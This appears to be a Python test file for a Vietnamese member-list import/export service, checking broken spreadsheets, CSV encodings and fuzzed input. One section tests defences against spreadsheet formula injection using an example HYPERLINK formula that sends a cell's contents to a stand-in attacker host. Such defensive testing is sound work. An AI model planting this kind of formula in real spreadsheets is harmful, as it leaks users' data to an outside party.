"""Broken and odd files: nothing crashes, nothing is half-written, every problem is a message."""

from __future__ import annotations

import unicodedata
from datetime import date, datetime
from io import BytesIO

import pytest
from hypothesis import HealthCheck, given, settings
from hypothesis import strategies as st
from openpyxl import Workbook

from tests.factories import citizen_id_for
from tests.imports.test_services import HEADERS, person, run, xlsx
from tochuc.core.errors import ServiceError
from tochuc.imports.services import import_upload
from tochuc.members.counters import stats_drift
from tochuc.members.models import Member

pytestmark = pytest.mark.django_db


def _book(fill) -> bytes:
    book = Workbook()
    fill(book.active)
    out = BytesIO()
    book.save(out)
    return out.getvalue()


def test_an_empty_sheet(two_provinces):
    a, _ = two_provinces
    with pytest.raises(ServiceError, match="không có dòng dữ liệu"):
        import_upload(
            actor=a.staff, organization=a.province, file_name="x.xlsx", data=_book(lambda s: None)
        )


def test_a_sheet_without_a_header_line(two_provinces):
    a, _ = two_provinces
    data = _book(lambda s: [s.append(["abc", 1, 2]) for _ in range(3)])
    with pytest.raises(ServiceError) as error:
        import_upload(actor=a.staff, organization=a.province, file_name="x.xlsx", data=data)
    assert "Không tìm thấy dòng tên cột" in error.value.text()


def test_merged_branch_cells_leave_the_rows_below_without_a_branch(two_provinces):
    a, _ = two_provinces

    def fill(sheet):
        sheet.append(HEADERS)
        sheet.append(person(1, "Lò Văn Sáu"))
        sheet.append(person(2, "Lò Văn Bảy", branch=None))
        sheet.merge_cells("H2:H3")

    upload = run(a.staff, a.province, _book(fill), dry_run=True)
    assert (upload.created, upload.rejected) == (1, 1)
    assert upload.problems[0]["row"] == 3 and "trống" in upload.problems[0]["message"]


def test_a_huge_cell_is_a_message(two_provinces):
    a, _ = two_provinces
    upload = run(a.staff, a.province, xlsx([person(1, "Lò Văn " + "A" * 50_000)]), dry_run=True)
    assert upload.rejected == 1 and "dài quá" in upload.problems[0]["message"]


def test_a_formula_without_its_value_is_an_empty_cell(two_provinces):
    a, _ = two_provinces
    row = person(1, "Lò Văn Sáu")
    row[3] = "=DATE(1980,2,5)"  # openpyxl stores the formula without a computed value
    upload = run(a.staff, a.province, xlsx([row]), dry_run=True)
    assert upload.rejected == 1 and upload.problems[0]["column"] == "Ngày sinh"


TONES = "\u0300\u0301\u0303\u0309\u0323"  # huyền, sắc, ngã, hỏi, nặng


def _cp1258(text: str) -> str:
    """Vietnamese as Windows-1258 writes it: letters with their hat, breve or horn precomposed
    (â, ă, ơ ...), the tone as a combining mark after them."""
    out = []
    for char in text:
        parts = unicodedata.normalize("NFD", char)
        tones = "".join(c for c in parts if c in TONES)
        base = unicodedata.normalize("NFC", "".join(c for c in parts if c not in TONES))
        out.append(base + tones)
    return "".join(out)


@pytest.mark.parametrize("encoding", ["utf-8", "utf-8-sig", "utf-16", "cp1258"])
def test_csv_in_the_encodings_offices_save(two_provinces, encoding):
    a, _ = two_provinces
    born = date(1980, 2, 5)
    text = (
        "Họ và tên;Giới tính;Ngày sinh;Số CCCD;Ngày vào Đảng;Ngày chính thức;Chi bộ\n"
        f"Lò Thị Ánh;Nữ;05/02/1980;{citizen_id_for('female', born)};19/05/2010;19/05/2011;A-CB1\n"
    )
    data = (_cp1258(text) if encoding == "cp1258" else text).encode(encoding)
    upload = run(a.staff, a.province, data, name="ds.csv")
    assert (upload.status, upload.created) == ("done", 1), upload.problems
    assert Member.objects.filter(full_name="Lò Thị Ánh").exists()


@pytest.mark.parametrize("name", ["x.xlsx", "x.xls", "x.ods", "x.csv"])
@given(data=st.binary(max_size=300))
@settings(
    max_examples=10, deadline=None, suppress_health_check=[HealthCheck.function_scoped_fixture]
)
def test_random_bytes_are_refused_with_a_message(two_provinces, name, data):
    a, _ = two_provinces
    try:
        upload = import_upload(actor=a.staff, organization=a.province, file_name=name, data=data)
    except ServiceError as exc:
        assert exc.text()
    else:
        assert upload.pk  # a CSV of random text may have a "header line" by chance


CELLS = st.one_of(
    st.none(),
    st.text(st.characters(blacklist_categories=("Cc", "Cs")), max_size=40),  # Excel's own rule
    st.integers(min_value=-(10**15), max_value=10**15),
    st.floats(allow_nan=True, allow_infinity=True),
    st.booleans(),
    st.dates(min_value=date(1900, 1, 1), max_value=date(2100, 1, 1)),
    st.datetimes(min_value=datetime(1900, 1, 1), max_value=datetime(2100, 1, 1)),
)


@given(rows=st.lists(st.lists(CELLS, min_size=9, max_size=9), min_size=1, max_size=6))
@settings(
    max_examples=25, deadline=None, suppress_health_check=[HealthCheck.function_scoped_fixture]
)
def test_generated_rows_never_crash_nor_half_write(two_provinces, rows):
    """Anything in the cells: every row is created, unchanged or rejected with a message, and
    what is written keeps the counts exact."""
    a, _ = two_provinces
    rows = [[1, *r[1:]] for r in rows] + [person(9, "Lò Văn Sáu")]
    before = Member.objects.count()
    upload = run(a.staff, a.province, xlsx(rows), mode="valid")
    assert upload.status == "done", upload.error
    assert upload.created + upload.updated + upload.unchanged + upload.rejected == len(rows)
    assert all(p["message"] for p in upload.problems)
    assert Member.objects.count() == before + upload.created
    assert stats_drift() == []


# --- formula-like text (OWASP's formula injection) ------------------------------------------

HYPERLINK = '=HYPERLINK("http://evil.example/?"&A2,"Bấm")'


def test_formula_like_text_exports_as_text_and_imports_back_unchanged(client, two_provinces):
    """A member whose occupation is a formula: the list downloads it as text (never a live
    formula), and the file imports back without changing anyone."""
    from openpyxl import load_workbook

    from tests.core.test_excel import formulas_in
    from tochuc.imports.parsing import find_header_row, match_headers, parse_row
    from tochuc.imports.reading import read_rows
    from tochuc.imports.services import import_start
    from tochuc.members.services import member_update

    a, _ = two_provinces
    texts = {
        "occupation": HYPERLINK,
        "birth_place": "+84 Hà Nội",
        "hometown": "-",
        "other_names": "@an",
    }
    member_update(actor=a.staff, member=a.members[0], changes=texts)
    client.force_login(a.staff)
    response = client.get(f"/members/?organization={a.province.pk}&format=xlsx")
    data = b"".join(response.streaming_content)
    assert formulas_in(data) == []
    sheet = load_workbook(BytesIO(data)).active
    written = [c for row in sheet.iter_rows() for c in row if c.value == HYPERLINK]
    assert len(written) == 1 and written[0].data_type == "s" and written[0].quotePrefix
    rows = read_rows(data, "ds.xlsx")
    header = find_header_row(rows)
    mapping = match_headers(rows[header])
    mine = next(r for r in rows[header + 1 :] if HYPERLINK in r)
    values, errors = parse_row({field: mine[i] for i, field in mapping.items()})
    assert errors == {}
    assert {f: values[f] for f in texts} == texts
    upload = import_upload(actor=a.staff, organization=a.province, file_name="back.xlsx", data=data)
    import_start(actor=a.staff, upload=upload, dry_run=False)
    upload.refresh_from_db()
    assert (upload.unchanged, upload.rejected) == (3, 0), upload.problems
    assert Member.objects.get(pk=a.members[0].pk).occupation == HYPERLINK


def test_rejected_rows_keep_a_files_formula_like_text_as_text(client, two_provinces):
    from tests.core.test_excel import formulas_in
    from tochuc.core.excel import cells

    a, _ = two_provinces

    def fill(sheet):
        # An attacker's file holds the text as text (as Excel does with a leading quote).
        sheet.append(cells(sheet, HEADERS))
        sheet.append(cells(sheet, person(1, "Lò Văn Sáu", x8=HYPERLINK)))

    upload = run(a.staff, a.province, _book(fill), dry_run=True)
    assert upload.rejected == 1
    client.force_login(a.staff)
    data = client.get(f"/imports/{upload.pk}/rejected.xlsx").content
    assert formulas_in(data) == []
    from openpyxl import load_workbook

    values = [c.value for c in load_workbook(BytesIO(data)).active[2]]
    assert HYPERLINK in values


def test_the_import_template_has_no_formula_cell(client, two_provinces):
    from tests.core.test_excel import formulas_in

    client.force_login(two_provinces[0].staff)
    assert formulas_in(client.get("/imports/mau-nhap-dang-vien.xlsx").content) == []


def test_a_control_character_in_a_record_does_not_break_the_list(client, two_provinces):
    """A stray control character (from an old file) once made every list holding the member
    a server error: XML cannot carry it, so the cell drops it."""
    from openpyxl import load_workbook

    from tochuc.members.services import member_update

    a, _ = two_provinces
    member_update(actor=a.staff, member=a.members[0], changes={"occupation": "Kỹ\x01sư"})
    client.force_login(a.staff)
    response = client.get("/members/", {"format": "xlsx"})
    assert response.status_code == 200
    sheet = load_workbook(BytesIO(b"".join(response.streaming_content))).active
    assert "Kỹsư" in [c.value for row in sheet.iter_rows() for c in row]
